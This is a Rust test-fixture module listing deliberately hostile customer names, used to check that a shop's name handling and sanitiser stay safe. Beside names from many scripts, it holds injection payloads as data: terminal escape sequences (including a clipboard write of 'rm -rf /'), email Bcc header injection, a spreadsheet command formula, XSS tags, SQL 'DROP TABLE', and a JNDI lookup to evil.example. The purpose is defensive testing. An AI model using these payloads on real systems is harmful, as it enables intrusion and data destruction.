//! Customers whose names were chosen to break things: terminals, mails, spreadsheets, searches.
//!
//! Shops collect such names from attackers, and from people who just have unusual names; both
//! must be shown, found and written to without harm.

use crate::domain::name::PersonName;

/// First name, last name, and the part of the address before the `@`.
const FIXED: [(&str, &str, &str); 36] = [
    // Escape sequences: colours, clipboard, links, title, a question that the terminal answers.
    ("\u{1b}[31;5mRed", "Alert\u{1b}[0m", "csi"),
    ("\u{1b}]52;c;cm0gLXJmIC8K\u{7}", "Clipboard", "osc52"),
    ("\u{1b}]8;;https://evil.example\u{1b}\\Click", "Me\u{1b}]8;;\u{1b}\\", "osc8"),
    ("\u{1b}]0;rm -rf /\u{7}", "Title", "osc0"),
    ("\u{1b}P$q q\u{1b}\\", "Reply", "decrqss"),
    ("\u{1b}c\u{1b}[2J\u{1b}[?1049l", "Reset", "ris"),
    // The same as single C1 characters.
    ("\u{9b}2JClear", "Screen\u{85}", "c1-csi"),
    ("\u{9d}0;Owned\u{9c}", "Title", "c1-osc"),
    ("Back\u{8}\u{8}\u{8}\u{8}Bell\u{7}", "Space\u{7f}", "backspace"),
    ("Tab\tbed", "New\nline\rreturn", "lines"),
    // Invisible and reordering characters.
    ("Nimda\u{202e}", "exe.gnp\u{202c}", "rlo"),
    ("\u{2066}Iso\u{2067}lated\u{2069}", "\u{61c}Marks\u{200f}", "isolates"),
    ("Ze\u{200b}ro\u{200d}", "\u{feff}Wi\u{2060}dth\u{ad}", "zero-width"),
    ("Tag\u{e0001}\u{e0048}\u{e0069}\u{e007f}", "Chars\u{fe0f}", "tags"),
    ("\u{3164}", "\u{115f}\u{1160}", "fillers"),
    ("Private\u{e000}\u{f8ff}", "Non\u{fffe}Char\u{fffd}", "private-use"),
    // What other programs would run or read as something else.
    ("Eve\r\nBcc: everyone@evil.example", "Header\r\n\r\nBody", "bcc"),
    ("=cmd|' /C calc'!A0", "+SUM(1+1)*cmd", "=cmd|'calc'!a0"),
    ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "script"),
    ("Robert'); DROP TABLE customers;--", "Tables", "bobby"),
    ("100%", "_under\\score_", "wildcards"),
    ("{{name}} {0} %s%n", "${jndi:ldap://evil.example}", "templates"),
    ("  Leading", "Trailing \u{a0}\u{3000}", "spaces"),
    // People like you and me.
    ("محمد", "الفارسي", "mohammed.alfarsi"),
    ("יוסף", "כהן", "yosef.cohen"),
    ("Pat", "O'Brien", "pat.o'brien"),
    ("Jean-Pierre", "Roux", "jean-pierre.roux"),
    ("Suharto", "", "suharto"),
    ("", "Prince", "prince"),
    ("", "", "nameless"),
    ("İbrahim", "Işık", "ibrahim.isik"),
    ("Nguyễn Thị", "Ánh Tuyết", "tuyet.nguyen"),
    ("小明", "王", "wang.xiaoming"),
    ("สมชาย", "ใจดี", "somchai"),
    ("अनुष्का", "क्षत्रिय", "anushka"),
    // A family of four joined to one emoji, a flag, a skin tone, the widest character there is.
    ("👨\u{200d}👩\u{200d}👧\u{200d}👦", "🇰🇷👍🏽\u{fdfd}", "family"),
];

/// The name and address of the hostile customer with this number; none behind the last.
pub(super) fn person(number: u64) -> Option<(PersonName, String)> {
    let number = usize::try_from(number).ok()?;
    let fixed = FIXED.get(number).map(|&(first, last, local)| (PersonName::new(first, last), local));
    let (name, local) = fixed.or_else(|| match number.checked_sub(FIXED.len())? {
        0 => Some((PersonName::new(&format!("Z{}algo", "\u{336}\u{30d}".repeat(25)), "Marks"), "zalgo")),
        1 => Some((PersonName::new(&"Maximiliana".repeat(20), &"W".repeat(80)), "long")),
        2 => Some((PersonName { middle: "Q.\u{1b}[7m".into(), ..PersonName::new("Jo", "Public") }, "middle")),
        _ => None,
    })?;
    Some((name, format!("{local}@hostile.example")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::{email::EmailAddress, safe_text::SafeText};

    fn all() -> impl Iterator<Item = (PersonName, String)> {
        (0..).map_while(person)
    }

    #[test]
    fn addresses_are_valid_and_unique() {
        let mut seen = std::collections::BTreeSet::new();
        for (_, email) in all() {
            EmailAddress::parse(&email).unwrap();
            assert!(seen.insert(email));
        }
        assert_eq!(seen.len(), FIXED.len() + 3);
    }

    #[test]
    fn every_kind_of_attack_is_there() {
        let raw: String = all().map(|(name, _)| name.full() + "\u{0}").collect();
        for kind in ["\u{1b}[", "\u{1b}]52;", "\u{1b}]8;", "\u{9b}", "\u{9d}", "\u{202e}", "\u{2066}", "\u{200b}"] {
            assert!(raw.contains(kind), "{kind:?}");
        }
        for kind in
            ["\u{e0048}", "\r\nBcc:", "=cmd", "<script>", "👨\u{200d}👩", "محمد", "כהן", "O'Brien", "DROP TABLE"]
        {
            assert!(raw.contains(kind), "{kind:?}");
        }
        assert!(all().any(|(name, _)| name.full().chars().count() == 301));
        assert!(all().any(|(name, _)| name.first.is_empty() && !name.last.is_empty()));
        assert!(all().any(|(name, _)| name.last.is_empty() && !name.first.is_empty()));
        assert!(all().all(|(name, _)| !name.full().contains('\0')), "no database stores NUL");
    }

    #[test]
    fn none_of_them_reaches_a_terminal() {
        for (name, _) in all() {
            let shown = SafeText::new(&name.full());
            assert!(!shown.as_str().chars().any(char::is_control), "{shown:?}");
        }
    }
}
